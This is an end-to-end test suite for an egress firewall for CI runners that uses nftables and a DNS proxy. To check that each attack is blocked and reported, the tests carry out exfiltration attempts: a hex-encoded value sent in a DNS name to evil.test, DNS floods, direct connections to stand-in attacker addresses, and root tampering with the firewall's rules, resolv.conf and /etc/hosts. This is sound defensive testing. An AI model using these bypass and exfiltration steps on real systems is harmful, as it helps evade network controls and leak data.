/**
 * The egress action, run for real: the bundled main and post through the harness inside
 * a "runner" namespace, against a logging DNS server and web servers in an "internet"
 * namespace (see egress-topology.ts). Needs root, nft and ip.
 */
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { spawnSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import { join } from 'node:path';
import { Job, type StepResult } from '../../src/devkit/run-action.js';
import { canUseNetns } from '../../src/devkit/netns.js';
import { fenceId, ledgerCopyPaths, stateDir } from '../../src/rootd/protocol.js';
import {
  CHAIN4,
  DNS4,
  DNS6,
  EVIL4,
  FORGED4,
  OTHER4,
  OTHER6,
  REAL4,
  SHORT4,
  WEB4,
  WEB6,
  World,
  connect,
  dig,
  fetchUrl,
} from './egress-topology.js';

const usable = canUseNetns() && existsSync('/usr/sbin/nft') && existsSync('/usr/bin/dig');
if (!usable && process.env.CI === 'true') {
  throw new Error(
    'egress e2e: needs root, /usr/sbin/nft, ip and dig (CI=true, so not skipping); run .ci/run to install them',
  );
}
if (!usable) console.warn('egress e2e skipped: needs root, nft, ip and dig');
const suite = usable ? describe : describe.skip;

function ledger(job: Job): { type: string; data: Record<string, unknown> }[] {
  const path = join(job.runnerTemp, 'cordon', 'ledger.jsonl');
  if (!existsSync(path)) return [];
  return readFileSync(path, 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { type: string; data: Record<string, unknown> });
}

function errors(r: StepResult): string[] {
  return r.commands.filter((c) => c.command === 'error').map((c) => c.message);
}

function setElements(w: World, set: string): string {
  return w.runner.exec(['nft', 'list', 'set', 'inet', 'cordon', set]);
}

suite('egress in block mode', () => {
  let w: World;
  let job: Job;
  let main: StepResult;
  /** The process that flooded the proxy (the flood test), found in post's report after it. */
  let floodPid = 0;

  beforeAll(async () => {
    w = new World('b');
    await w.serve();
    job = new Job();
    main = await job.run('egress', 'main', {
      inputs: { 'allowed-domains': '*.a.test\nexact.b.test', preset: 'none', 'min-ttl': '2' },
      wrap: w.runner.wrap,
      timeoutMs: 30000,
    });
    // The bridge and its "container" come after the fence is up, as an agent's would.
    w.addContainer();
  }, 60000);

  afterAll(async () => {
    await w?.destroy([fenceId(job.runnerTemp)]);
  });

  test('main enforces the fence, records egress.started and points the resolver at the proxy', () => {
    expect(errors(main)).toEqual([]);
    expect(main.code).toBe(0);
    const started = ledger(job).find((e) => e.type === 'egress.started');
    expect(started?.data).toMatchObject({
      policy: 'block',
      domains: ['*.a.test', 'exact.b.test'],
      upstreams: [DNS4],
    });
    expect(w.resolvConf()).toMatch(/^nameserver 127\.0\.0\.1$/m);
    expect(w.resolvConf()).not.toContain(DNS4);
    expect(w.runner.exec(['nft', 'list', 'chain', 'inet', 'cordon', 'output'])).toContain('policy drop');
  });

  test('the daemon warmed its answer path before READY, and none of it is in the sets', () => {
    const log = readFileSync(join(stateDir(fenceId(job.runnerTemp)), 'daemon.log'), 'utf8');
    expect(log).toMatch(/the answer path warmed: [1-9]\d* of [1-9]\d* queries answered in \d+ ms/);
    // The warm upstream answers from 192.0.2.0/24 and 2001:db8::/32: none of it in any set.
    for (const set of ['allow4', 'allow6', 'agent4', 'agent6'])
      expect(setElements(w, set)).not.toMatch(/192\.0\.2\.|2001:db8:/);
    // Its time is recorded apart: setup-ms is the fence enforced, the warm-up comes after.
    const warm = ledger(job).find((e) => e.type === 'egress.started')?.data.warmUpMs as number;
    expect(warm).toBeGreaterThan(0);
    expect(Number(main.outputs['setup-ms']) + warm).toBeLessThanOrEqual(main.durationMs);
  });

  test('an allowed name is reachable over IPv4 and IPv6 through the system resolver', () => {
    expect(fetchUrl(w.runner, 'http://www.a.test/', 4)).toBe(`hello from ${WEB4}`);
    expect(fetchUrl(w.runner, 'http://www.a.test/', 6)).toBe(`hello from ${WEB6}`);
    expect(setElements(w, 'allow4')).toContain(WEB4);
    expect(setElements(w, 'allow6')).toContain(WEB6);
  });

  test('a name not on the list gets NXDOMAIN over UDP and TCP and never reaches the upstream', async () => {
    expect(dig(w.runner, 'secret.evil.test').status).toBe('NXDOMAIN');
    expect(dig(w.runner, 'secret.evil.test', { tcp: true }).status).toBe('NXDOMAIN');
    expect(dig(w.runner, 'secret.evil.test', { type: 'TXT' }).status).toBe('NXDOMAIN');
    expect(await w.asked('secret.evil.test')).toEqual([]);
    // The log works: an allowed name asked here does show up.
    expect(dig(w.runner, 'txt.a.test', { type: 'TXT', tcp: true }).status).toBe('NOERROR');
    expect((await w.asked('txt.a.test')).map((q) => q.proto)).toContain('tcp');
  });

  test('two pipelined queries in one TCP stream are each answered by policy', async () => {
    const script = `
      const enc=(id,n)=>{const q=Buffer.concat([Buffer.from([id>>8,id&255,1,0,0,1,0,0,0,0,0,0]),...n.split('.').map(l=>Buffer.concat([Buffer.from([l.length]),Buffer.from(l)])),Buffer.from([0,0,1,0,1])]);const h=Buffer.alloc(2);h.writeUInt16BE(q.length);return Buffer.concat([h,q]);};
      const s=require('net').connect(53,'127.0.0.1');let b=Buffer.alloc(0);const out=[];
      s.on('connect',()=>s.write(Buffer.concat([enc(0x1111,'evila.test'),enc(0x2222,'www.a.test')])));
      s.on('data',d=>{b=Buffer.concat([b,d]);while(b.length>=2&&b.length>=2+b.readUInt16BE(0)){const m=b.subarray(2,2+b.readUInt16BE(0));out.push(m.readUInt16BE(0).toString(16)+':'+(m.readUInt16BE(2)&15)+':'+m.readUInt16BE(6));b=b.subarray(2+m.length);}if(out.length===2){console.log(out.sort().join(' '));process.exit(0)}});
      setTimeout(()=>{console.log('timeout '+out.join(' '));process.exit(1)},5000);`;
    const out = w.runner.exec([process.execPath, '-e', script]).trim();
    // id:rcode:answers — NXDOMAIN (3) for evila.test, an answer for www.a.test.
    expect(out).toBe('1111:3:0 2222:0:1');
    expect(await w.asked('evila.test')).toEqual([]);
  });

  test('several questions in one query and malformed packets are refused, never forwarded', async () => {
    const script = `
      const lab=n=>Buffer.concat([...n.split('.').map(l=>Buffer.concat([Buffer.from([l.length]),Buffer.from(l)])),Buffer.from([0,0,1,0,1])]);
      const two=Buffer.concat([Buffer.from([0x33,0x33,1,0,0,2,0,0,0,0,0,0]),lab('www.a.test'),lab('multi.evil.test')]);
      const dotted=Buffer.concat([Buffer.from([0x44,0x44,1,0,0,1,0,0,0,0,0,0]),Buffer.from([5]),Buffer.from('x.www'),lab('a.test')]);
      const s=require('dgram').createSocket('udp4');const out=[];
      s.on('message',m=>{out.push(m.readUInt16BE(0).toString(16)+':'+(m.readUInt16BE(2)&15));if(out.length===2){console.log(out.sort().join(' '));process.exit(0)}});
      s.send(Buffer.from([1,2,3]),53,'127.0.0.1');s.send(two,53,'127.0.0.1');s.send(dotted,53,'127.0.0.1');
      setTimeout(()=>{console.log('timeout '+out.join(' '));process.exit(1)},3000);`;
    // FORMERR (1) for two questions, REFUSED (5) for a dot inside a label; the 3-byte packet gets nothing.
    expect(w.runner.exec([process.execPath, '-e', script]).trim()).toBe('3333:1 4444:5');
    expect(await w.asked('multi.evil.test')).toEqual([]);
    expect((await w.asked('x.www.a.test')).length + (await w.asked('a.test')).length).toBe(0);
    expect(dig(w.runner, 'www.a.test').answers).toEqual([WEB4]);
  });

  test('wildcards match subdomains only: not the apex, not a suffix trick, not a longer label', async () => {
    for (const name of ['a.test', 'a.test.evil.test', 'evila.test']) {
      expect(dig(w.runner, name).status).toBe('NXDOMAIN');
      expect(await w.asked(name)).toEqual([]);
    }
    expect(dig(w.runner, 'WWW.A.TEST.').answers).toEqual([WEB4]);
    expect(dig(w.runner, 'txt.a.test', { type: 'TXT' }).answers).toEqual(['"hello"']);
  });

  test('a CNAME from an allowed name allows the target only through the chain', () => {
    const r = dig(w.runner, 'alias.a.test');
    expect(r.answers).toEqual(['cdn.other.test.', CHAIN4]);
    expect(connect(w.runner, CHAIN4, 80).result).toBe('open');
    expect(dig(w.runner, 'cdn.other.test').status).toBe('NXDOMAIN');
  });

  test('a direct-IP connection is refused at once and recorded by the kernel', () => {
    const c = connect(w.runner, OTHER4, 80);
    expect(c.result).toBe('ECONNREFUSED');
    expect(c.ms).toBeLessThan(1000);
    expect(connect(w.runner, OTHER6, 80).result).toBe('ECONNREFUSED');
    expect(setElements(w, 'blocked4')).toContain(`${OTHER4} . tcp . 80`);
    expect(setElements(w, 'blocked6')).toContain(`${OTHER6} . tcp . 80`);
  });

  test('DNS straight to the upstream or any other address is blocked, also to an allowed address', async () => {
    expect(dig(w.runner, 'direct.a.test', { server: DNS4 }).status).toMatch(/^failed/);
    expect(dig(w.runner, 'direct.a.test', { server: DNS6 }).status).toMatch(/^failed/);
    expect(dig(w.runner, 'direct.a.test', { server: DNS4, tcp: true }).status).toMatch(/^failed/);
    expect(dig(w.runner, 'direct.a.test', { server: WEB4 }).status).toMatch(/^failed/);
    expect(await w.asked('direct.a.test')).toEqual([]);
  });

  test('DoT (853) and DoH (443) to a non-allowed address are refused; DoT even to an allowed one', () => {
    expect(connect(w.runner, OTHER4, 853).result).toBe('ECONNREFUSED');
    expect(connect(w.runner, OTHER4, 443).result).toBe('ECONNREFUSED');
    expect(connect(w.runner, WEB4, 853).result).toBe('ECONNREFUSED');
  });

  test('a forged answer from another address is ignored; the upstream answer wins', () => {
    expect(dig(w.runner, 'forged.a.test').answers).toEqual([REAL4]);
    expect(setElements(w, 'allow4')).not.toContain(FORGED4);
    expect(connect(w.runner, FORGED4, 80).result).toBe('ECONNREFUSED');
  });

  test('an address leaves the set when max(TTL, min-ttl) runs out', async () => {
    expect(dig(w.runner, 'short.a.test').answers).toEqual([SHORT4]);
    expect(setElements(w, 'allow4')).toContain(SHORT4);
    expect(connect(w.runner, SHORT4, 80).result).toBe('open');
    await new Promise((r) => setTimeout(r, 4500));
    expect(setElements(w, 'allow4')).not.toContain(SHORT4);
    expect(connect(w.runner, SHORT4, 80).result).toBe('ECONNREFUSED');
  });

  test('a container behind a bridge made after the fence: its DNS to the old resolver is answered by the proxy, its traffic filtered', async () => {
    const c = w.container!;
    expect(dig(c, 'ctr.a.test', { server: DNS4 }).answers).toEqual([WEB4]);
    expect(dig(c, 'ctr.evil.test', { server: DNS4 }).status).toBe('NXDOMAIN');
    expect(await w.asked('ctr.evil.test')).toEqual([]);
    const asked = await w.asked('ctr.a.test');
    expect(asked.length).toBeGreaterThan(0);
    expect(asked.every((q) => q.from === '198.51.100.2')).toBe(true);
    expect(dig(c, 'ctr.a.test', { server: DNS6 }).answers).toEqual([WEB4]);
    expect(dig(c, 'ctr.a.test', { server: DNS4, tcp: true }).answers).toEqual([WEB4]);
    expect(fetchUrl(c, 'http://ctr.a.test/')).toBe(`hello from ${WEB4}`);
    expect(connect(c, WEB4, 80).result).toBe('open');
    expect(connect(c, EVIL4, 80).result).toBe('ECONNREFUSED');
    expect(connect(c, OTHER6, 80).result).toBe('ECONNREFUSED');
  });

  test('a flood of refused names from one socket does not stop allowed names from being answered, and is recorded with its source', async () => {
    // 20000 distinct refused names from one socket as fast as it takes them, and 10 lookups
    // of an allowed name from other sockets in between (each sent again after 1 s, 5 tries,
    // as a resolver does). Counts only: how many were answered, not how fast.
    const script = `const d=require('dgram');const f=d.createSocket('udp4');f.on('message',()=>{});
      const q=(n,id)=>Buffer.concat([Buffer.from([id>>8,id&255,1,0,0,1,0,0,0,0,0,0]),...n.split('.').map(l=>Buffer.concat([Buffer.from([l.length]),Buffer.from(l)])),Buffer.from([0,0,1,0,1])]);
      let ok=0;const ask=(k)=>{const c=d.createSocket('udp4');let tries=0,t;const go=()=>{if(++tries>5){c.close();return}t=setTimeout(go,1000);c.send(q('www.a.test',k),53,'127.0.0.1')};
        c.on('message',(m)=>{if((m[3]&15)===0&&m.readUInt16BE(6)>0){clearTimeout(t);ok++;c.close()}});go()};
      (async()=>{for(let i=0;i<20000;i++){f.send(q('n'+i+'.flood.evil.test',i&65535),53,'127.0.0.1');
        if(i%2000===1999)ask(i/2000);if(i%200===199)await new Promise(r=>setImmediate(r));}
        const end=Date.now()+8000;while(ok<10&&Date.now()<end)await new Promise(r=>setTimeout(r,100));
        console.log(JSON.stringify({ok,pid:process.pid}));process.exit(0)})();`;
    const out = JSON.parse(w.runner.exec([process.execPath, '-e', script], { timeoutMs: 30000 })) as {
      ok: number;
      pid: number;
    };
    expect(out.ok).toBe(10);
    floodPid = out.pid;
  }, 60000);

  test('who asked: the process behind a refused name and a blocked destination, and whether it is under the agent', async () => {
    // A "command" (sh, its pid written where the run step would write it) whose child asks
    // for a forbidden name and sends to a forbidden address, holding both sockets a while.
    const script = `const d=require('dgram');const q=d.createSocket('udp4');
      const n='who.evil.test';const b=Buffer.concat([Buffer.from([0x12,0x34,1,0,0,1,0,0,0,0,0,0]),...n.split('.').map(l=>Buffer.concat([Buffer.from([l.length]),Buffer.from(l)])),Buffer.from([0,0,1,0,1])]);
      q.send(b,53,'127.0.0.1');q.on('message',()=>{});
      const u=d.createSocket('udp4');u.connect(9999,'${EVIL4}',()=>{u.send('x');setTimeout(()=>u.send('y'),200);});u.on('error',()=>{});
      console.log(process.pid);setTimeout(()=>process.exit(0),2500);`;
    const child = w.runner.spawn(['/bin/sh', '-c', `${process.execPath} -e "$0"; true`, script]);
    writeFileSync(join(job.runnerTemp, 'cordon', 'agent.pid'), `${child.pid}\n`);
    const nodePid = await new Promise<string>((resolve) =>
      child.stdout!.once('data', (d: Buffer) => resolve(d.toString().trim())),
    );
    await new Promise((r) => child.on('exit', r));
    // And one from outside the command: dig, whose socket closes at once (may be missed).
    const post = await job.run('egress', 'post', {
      inputs: { 'allowed-domains': '*.a.test\nexact.b.test', preset: 'none' },
      state: main.state,
      wrap: w.runner.wrap,
    });
    expect(errors(post)).toEqual([]);
    const report = ledger(job)
      .filter((e) => e.type === 'egress.report')
      .pop()!.data as {
      blockedNames: { name: string; process?: string }[];
      blockedDestinations: { address: string; port?: number; process?: string }[];
      refusals: { total: number; flood: boolean; topSources: { queries: number; process?: string }[] };
    };
    // The warm-up's names (warmup.ts) are the throwaway proxy's, never the report's.
    expect(JSON.stringify(report)).not.toMatch(/warm\.cordon\.invalid|refused\.invalid/);
    expect(report.blockedNames.find((n) => n.name === 'who.evil.test')?.process).toBe(
      `node (pid ${nodePid}, under run's command)`,
    );
    expect(report.blockedDestinations.find((d) => d.address === EVIL4 && d.port === 9999)?.process).toBe(
      `node (pid ${nodePid}, under run's command)`,
    );
    // The flood of the test before: its socket first among the sources, with its process.
    expect(report.refusals.flood).toBe(true);
    expect(report.refusals.total).toBeGreaterThanOrEqual(report.refusals.topSources[0].queries);
    expect(report.refusals.topSources[0].process).toMatch(new RegExp(`^node \\(pid ${floodPid}\\b`));
    expect(report.refusals.topSources[0].queries).toBeGreaterThan(1000);
    expect(
      post.commands.some(
        (c) => c.command === 'warning' && c.message.includes(`asked by node (pid ${nodePid}`),
      ),
    ).toBe(true);
  }, 30000);

  test('the daemon keeps a copy of the ledger lines sent to it, readable but not writable by the runner user', async () => {
    const { socket, copy } = ledgerCopyPaths(job.runnerTemp);
    const lines = ['{"type":"run.started","n":1}', '{"type":"run.finished","n":2}'];
    await new Promise<void>((resolve, reject) => {
      const c = net.connect(socket, () => c.end(lines.map((l) => `${l}\n`).join('')));
      c.on('close', () => resolve());
      c.on('error', reject);
    });
    let text = '';
    for (let i = 0; i < 30 && !text.includes('"n":2'); i++) {
      await new Promise((r) => setTimeout(r, 100));
      text = readFileSync(copy, 'utf8');
    }
    // After what egress sent itself: the lines before the fence and its egress.started.
    const copied = text.split('\n').filter(Boolean);
    expect(copied.slice(-2)).toEqual(lines);
    const file = readFileSync(join(job.runnerTemp, 'cordon', 'ledger.jsonl'), 'utf8')
      .split('\n')
      .filter(Boolean);
    expect(copied.slice(0, -2)).toEqual(file.slice(0, copied.length - 2));
    expect(copied.slice(0, -2).some((l) => l.includes('"type":"egress.started"'))).toBe(true);
    const st = statSync(copy);
    expect(st.uid).toBe(0);
    // Readable by the runner's group only: here the steps are root, so another user reads nothing.
    expect(st.mode & 0o777).toBe(0o640);
    expect(spawnSync('runuser', ['-u', 'nobody', '--', 'cat', copy], { timeout: 5000 }).status).not.toBe(0);
    expect(
      spawnSync('runuser', ['-u', 'nobody', '--', 'sh', '-c', `echo forged >> ${copy}`], { timeout: 5000 })
        .status,
    ).not.toBe(0);
    expect(readFileSync(copy, 'utf8').split('\n')).not.toContain('forged');
  });

  test('post records what was allowed and blocked and annotates each blocked name once', async () => {
    // Hostile: a value hex-encoded into a refused name; the ledger keeps it, no annotation shows it.
    const carried = '6b6579313233343536';
    expect(dig(w.runner, `${carried}.x.evil.test`).status).toBe('NXDOMAIN');
    // The same question twice in a row: the second is answered from the proxy's cache.
    for (let i = 0; i < 2; i++) expect(dig(w.runner, 'www.a.test').status).toBe('NOERROR');
    const post = await job.run('egress', 'post', {
      inputs: { 'allowed-domains': '*.a.test\nexact.b.test', preset: 'none' },
      state: main.state,
      wrap: w.runner.wrap,
    });
    expect(errors(post)).toEqual([]);
    const report = ledger(job)
      .filter((e) => e.type === 'egress.report')
      .pop()?.data as {
      allowed: { name: string; addresses: string[] }[];
      blockedNames: { name: string; queries: number }[];
      blockedDestinations: { address: string; protocol: string; port?: number; packets: number }[];
      dns: { answeredFromCache: number; upstreamTimeouts: number; malformed: number; setFailures: number };
    };
    expect(report.dns.answeredFromCache).toBeGreaterThanOrEqual(1);
    expect(report.dns.setFailures).toBe(0);
    expect(post.stdout).toContain(`${report.dns.answeredFromCache} answered from the cache`);
    expect(report.allowed.find((a) => a.name === 'www.a.test')?.addresses.sort()).toEqual(
      [WEB4, WEB6].sort(),
    );
    expect(report.blockedNames.find((n) => n.name === 'secret.evil.test')?.queries).toBe(3);
    expect(report.blockedNames.find((n) => n.name === 'who.evil.test')).toBeDefined();
    expect(report.blockedDestinations).toEqual(
      expect.arrayContaining([expect.objectContaining({ address: OTHER4, protocol: 'tcp', port: 80 })]),
    );
    const warnings = post.commands.filter(
      (c) => c.command === 'warning' && c.message.includes('secret.evil.test'),
    );
    expect(warnings).toHaveLength(1);
    expect(report.blockedNames.find((n) => n.name === `${carried}.x.evil.test`)).toBeDefined();
    expect(post.commands.filter((c) => c.message.includes(carried))).toEqual([]);
    expect(
      post.commands.some(
        (c) => c.command === 'warning' && c.message.includes('DNS name [18 chars].x.evil.test blocked'),
      ),
    ).toBe(true);
  });

  test('fail-on-blocked fails post when anything was refused', async () => {
    const post = await job.run('egress', 'post', {
      inputs: { preset: 'none', 'fail-on-blocked': 'true' },
      state: main.state,
      wrap: w.runner.wrap,
    });
    expect(post.code).toBe(1);
    expect(errors(post).join('\n')).toMatch(/egress: \d+ names or destinations were blocked/);
  });

  test('root deleting the table is noticed, the table is put back at once, and post fails', async () => {
    // Resolved before the tampering: the proxy holds the answer in its cache and a client
    // (here: by address, as one that keeps the answer for its TTL) never asks again.
    expect(fetchUrl(w.runner, 'http://www.a.test/', 4)).toBe(`hello from ${WEB4}`);
    expect(fetchUrl(w.runner, 'http://www.a.test/', 6)).toBe(`hello from ${WEB6}`);
    w.runner.exec(['nft', 'delete', 'table', 'inet', 'cordon']);
    let back = false;
    for (let i = 0; i < 40 && !back; i++) {
      await new Promise((r) => setTimeout(r, 100));
      back = w.runner
        .try(['nft', 'list', 'chain', 'inet', 'cordon', 'output'])
        .stdout.includes('policy drop');
    }
    expect(back).toBe(true);
    expect(connect(w.runner, OTHER4, 80).result).toBe('ECONNREFUSED');
    // The re-closed table's allow sets are filled again with what was answered before,
    // both families, without a new lookup.
    let open = '';
    for (let i = 0; i < 30 && open !== 'open open'; i++) {
      if (i) await new Promise((r) => setTimeout(r, 100));
      open = `${connect(w.runner, WEB4, 80).result} ${connect(w.runner, WEB6, 80).result}`;
    }
    expect(open).toBe('open open');
    // Answers still work: the emptied sets are filled again by the next lookups.
    expect(fetchUrl(w.runner, 'http://www.a.test/', 4)).toBe(`hello from ${WEB4}`);
    // An added accept rule is a change too.
    w.runner.exec(['nft', 'insert', 'rule', 'inet', 'cordon', 'output', 'ip', 'daddr', OTHER4, 'accept']);
    await new Promise((r) => setTimeout(r, 2500));
    expect(w.runner.exec(['nft', 'list', 'chain', 'inet', 'cordon', 'output'])).not.toContain(OTHER4);
    const post = await job.run('egress', 'post', {
      inputs: { preset: 'none' },
      state: main.state,
      wrap: w.runner.wrap,
    });
    expect(post.code).toBe(1);
    expect(errors(post).join('\n')).toContain(
      'the fence was tampered with: the table inet cordon was removed',
    );
    const tamper = ledger(job)
      .filter((e) => e.type === 'egress.report')
      .pop()!.data.tamper as string[];
    expect(tamper.join('\n')).toMatch(
      /the table inet cordon was loaded again \(re-closed\); [1-9]\d* address\(es\) the proxies had answered were put back/,
    );
  });

  test('every other kind of root tampering is recorded at once and none opens the fence', async () => {
    const sh = (cmd: string): string => w.runner.exec(['sh', '-c', cmd]);
    const until = async (what: () => boolean): Promise<boolean> => {
      for (let i = 0; i < 50; i++) {
        if (what()) return true;
        await new Promise((r) => setTimeout(r, 100));
      }
      return false;
    };
    const daemonLog = (): string =>
      readFileSync(join(stateDir(fenceId(job.runnerTemp)), 'daemon.log'), 'utf8');

    // A flushed output chain (policy drop stays): noticed and loaded again.
    sh('nft flush chain inet cordon output');
    expect(await until(() => /oif "lo" accept/.test(sh('nft list chain inet cordon output')))).toBe(true);
    expect(connect(w.runner, OTHER4, 80).result).toBe('ECONNREFUSED');

    // A chain added to Cordon's own table, hooked after its chains (where it could rewrite
    // an allowed packet's destination): noticed, and the table loaded again without it.
    sh('nft add chain inet cordon sneaky "{ type filter hook output priority 10; policy accept; }"');
    expect(await until(() => !sh('nft list chains inet').includes('chain sneaky'))).toBe(true);
    expect(sh('nft list chain inet cordon output')).toContain('policy drop');

    // An address root adds to allow4 is recorded and taken out again.
    sh(`nft add element inet cordon allow4 { ${EVIL4} timeout 600s }`);
    expect(await until(() => !setElements(w, 'allow4').includes(EVIL4))).toBe(true);
    expect(connect(w.runner, EVIL4, 80).result).toBe('ECONNREFUSED');

    // A second table whose output chain accepts everything: a packet must be accepted by
    // every base chain on the hook, so Cordon's drop still decides.
    sh(
      'nft add table inet cordonx; nft add chain inet cordonx out "{ type filter hook output priority -10; policy accept; }"; nft add rule inet cordonx out accept',
    );
    try {
      expect(connect(w.runner, OTHER4, 80).result).toBe('ECONNREFUSED');
      expect(connect(w.runner, EVIL4, 80).result).toBe('ECONNREFUSED');
      expect(await until(() => daemonLog().includes('a table inet cordonx was added'))).toBe(true);
    } finally {
      sh('nft delete table inet cordonx');
    }

    // resolv.conf pointed straight at the upstream: recorded and put back to the proxy.
    sh(`echo nameserver ${DNS4} > /etc/resolv.conf`);
    expect(await until(() => w.resolvConf().includes('nameserver 127.0.0.1'))).toBe(true);
    expect(daemonLog()).toContain('/etc/resolv.conf was changed');
    expect(dig(w.runner, 'secret.evil.test', { server: DNS4 }).status).toMatch(/^failed/);

    // /etc/hosts naming a forbidden address: the name resolves, the address stays closed.
    sh(`echo '${EVIL4} sneaky.evil.test' >> /etc/hosts`);
    expect(fetchUrl(w.runner, 'http://sneaky.evil.test/', 4)).toMatch(/^curl exit/);
    expect(connect(w.runner, EVIL4, 80).result).toBe('ECONNREFUSED');
    expect(await until(() => daemonLog().includes('/etc/hosts was changed'))).toBe(true);

    // Nothing switched to audit, and what was allowed still works.
    expect(sh('nft list chain inet cordon output')).toContain('policy drop');
    expect(fetchUrl(w.runner, 'http://www.a.test/', 4)).toBe(`hello from ${WEB4}`);

    const post = await job.run('egress', 'post', {
      inputs: { preset: 'none' },
      state: main.state,
      wrap: w.runner.wrap,
    });
    expect(post.code).toBe(1);
    const tamper = ledger(job)
      .filter((e) => e.type === 'egress.report')
      .pop()!.data.tamper as string[];
    const all = tamper.join('\n');
    expect(all).toContain('the table inet cordon was changed by someone else');
    expect(all).toContain(`${EVIL4} added to allow4 by someone else`);
    expect(all).toContain('a table inet cordonx was added');
    expect(all).toContain('/etc/resolv.conf was changed');
    expect(all).toMatch(new RegExp(`/etc/hosts was changed: ${EVIL4.replace(/\./g, '\\.')} sneaky`));
    const tampered = ledger(job).filter((e) => e.type === 'egress.tampered');
    expect(tampered.length).toBeGreaterThan(0);
  }, 60000);

  test("with its monitor killed, the full check still finds an added address within seconds and the monitor's end is recorded; fail-on-tamper: false only warns", async () => {
    const { pid } = JSON.parse(
      readFileSync(join(stateDir(fenceId(job.runnerTemp)), 'state.json'), 'utf8'),
    ) as { pid: number };
    const parent = (p: number): number => {
      const stat = readFileSync(`/proc/${p}/stat`, 'utf8');
      return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    };
    const monitors = readdirSync('/proc')
      .filter((d) => /^\d+$/.test(d))
      .map(Number)
      .filter((p) => {
        try {
          return (
            readFileSync(`/proc/${p}/cmdline`, 'utf8') === 'nft\0monitor\0ruleset\0' &&
            parent(parent(p)) === pid
          );
        } catch {
          return false;
        }
      });
    expect(monitors).toHaveLength(1);
    process.kill(monitors[0], 'SIGKILL');
    w.runner.exec(['nft', 'add', 'element', 'inet', 'cordon', 'allow4', `{ ${OTHER4} timeout 600s }`]);
    const t0 = Date.now();
    let gone = false;
    for (let i = 0; i < 50 && !gone; i++) {
      await new Promise((r) => setTimeout(r, 100));
      gone = !setElements(w, 'allow4').includes(OTHER4);
    }
    expect(gone).toBe(true);
    expect(Date.now() - t0).toBeLessThan(4500);
    const post = await job.run('egress', 'post', {
      inputs: { preset: 'none', 'fail-on-tamper': 'false' },
      state: main.state,
      wrap: w.runner.wrap,
    });
    expect(post.code).toBe(0);
    expect(
      post.commands.some(
        (c) => c.command === 'warning' && c.message.includes(`${OTHER4} added to allow4 by someone else`),
      ),
    ).toBe(true);
    expect(
      post.commands.some(
        (c) => c.command === 'warning' && c.message.includes("the daemon's nft monitor ended"),
      ),
    ).toBe(true);
  }, 30000);

  test("with the root helper's trace monitor killed, a blocked destination's process is still found, and the monitor's end is recorded", async () => {
    const { pid } = JSON.parse(
      readFileSync(join(stateDir(fenceId(job.runnerTemp)), 'state.json'), 'utf8'),
    ) as { pid: number };
    const parent = (p: number): number => {
      const stat = readFileSync(`/proc/${p}/stat`, 'utf8');
      return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    };
    // nft, under the helper's shell, under the helper, under the daemon.
    const monitors = readdirSync('/proc')
      .filter((d) => /^\d+$/.test(d))
      .map(Number)
      .filter((p) => {
        try {
          return (
            readFileSync(`/proc/${p}/cmdline`, 'utf8') === 'nft\0monitor\0trace\0' &&
            parent(parent(parent(p))) === pid
          );
        } catch {
          return false;
        }
      });
    expect(monitors).toHaveLength(1);
    process.kill(monitors[0], 'SIGKILL');
    await new Promise((r) => setTimeout(r, 300));
    // A sender to a forbidden address and a port not sent to before, holding its socket 2.5 s.
    const script = `const u=require('dgram').createSocket('udp4');u.on('error',()=>{});
      u.connect(9998,'${EVIL4}',()=>u.send('x'));console.log(process.pid);setTimeout(()=>process.exit(0),2500);`;
    const child = w.runner.spawn([process.execPath, '-e', script]);
    const nodePid = await new Promise<string>((resolve) =>
      child.stdout!.once('data', (d: Buffer) => resolve(d.toString().trim())),
    );
    await new Promise((r) => child.on('exit', r));
    const post = await job.run('egress', 'post', {
      inputs: { preset: 'none', 'fail-on-tamper': 'false' },
      state: main.state,
      wrap: w.runner.wrap,
    });
    expect(post.code).toBe(0);
    const report = ledger(job)
      .filter((e) => e.type === 'egress.report')
      .pop()!.data as { blockedDestinations: { address: string; port?: number; process?: string }[] };
    expect(report.blockedDestinations.find((d) => d.address === EVIL4 && d.port === 9998)?.process).toMatch(
      new RegExp(`^node \\(pid ${nodePid}\\b`),
    );
    expect(
      post.commands.some(
        (c) => c.command === 'warning' && c.message.includes("the root helper's nft monitor trace ended"),
      ),
    ).toBe(true);
  }, 30000);

  test('killing the daemon keeps block mode closed, and post fails saying so', async () => {
    const { pid } = JSON.parse(
      readFileSync(join(stateDir(fenceId(job.runnerTemp)), 'state.json'), 'utf8'),
    ) as { pid: number };
    // An address answered before the daemon dies stays allowed until its timeout.
    expect(dig(w.runner, 'www.a.test').answers).toEqual([WEB4]);
    process.kill(pid, 'SIGKILL');
    await new Promise((r) => setTimeout(r, 300));
    expect(connect(w.runner, OTHER4, 80).result).toBe('ECONNREFUSED');
    expect(dig(w.runner, 'secret.evil.test', { server: DNS4 }).status).toMatch(/^failed/);
    expect(dig(w.runner, 'www.a.test').status).toMatch(/^failed/);
    expect(connect(w.runner, WEB4, 80).result).toBe('open');
    const post = await job.run('egress', 'post', {
      inputs: { preset: 'none' },
      state: main.state,
      wrap: w.runner.wrap,
    });
    expect(post.code).toBe(1);
    expect(errors(post).join('\n')).toContain('the daemon did not answer');
  });
});
